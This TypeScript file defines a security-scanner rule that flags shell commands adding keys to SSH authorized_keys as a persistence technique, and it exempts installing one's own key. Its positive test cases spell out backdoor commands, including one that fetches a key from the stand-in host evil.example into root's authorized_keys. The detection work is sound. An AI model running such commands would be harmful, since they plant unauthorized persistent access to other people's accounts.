import { defineRule, perInvocation } from './rule.js';
import { writeTargets } from './writes.js';
import type { Invocation } from '../ir.js';

/** `ssh host 'cat >> ~/.ssh/authorized_keys' < ~/.ssh/id_ed25519.pub`: installing your own key remotely (what ssh-copy-id does). */
function ownPublicKeyOverSsh(inv: Invocation): boolean {
  for (let p = inv.parent; p; p = p.parent) {
    if (p.program !== 'ssh') continue;
    const fromPub = (x: string): boolean => /\.ssh\/[^/]+\.pub$/.test(x);
    return p.redirects.some((r) => r.op === '<' && fromPub(r.target)) || p.upstream.some((u) => u.program === 'cat' && u.args.some(fromPub));
  }
  return false;
}

export const rule = defineRule({
  id: 'ssh_key_implant',
  category: 'persistence',
  severity: 'critical',
  technique: 'T1098.004',
  title: "Adds a key to authorized_keys, letting the key's owner log in at any time",
  check: perInvocation((inv) => {
    const f = writeTargets(inv).find((x) => /authorized_keys2?$/.test(x));
    if (f && ownPublicKeyOverSsh(inv)) return undefined;
    return f ? `adds a login key to ${f}; whoever holds the matching private key can log in to this account` : undefined;
  }),
  cases: {
    positive: [['bash', 'echo "ssh-ed25519 AAAAC3Nza attacker" >> ~/.ssh/authorized_keys'], ['bash', 'curl -s https://evil.example/k.pub | tee -a /root/.ssh/authorized_keys']],
    negative: [['bash', 'ssh-copy-id user@host'], ['bash', 'cat ~/.ssh/authorized_keys']],
  },
});
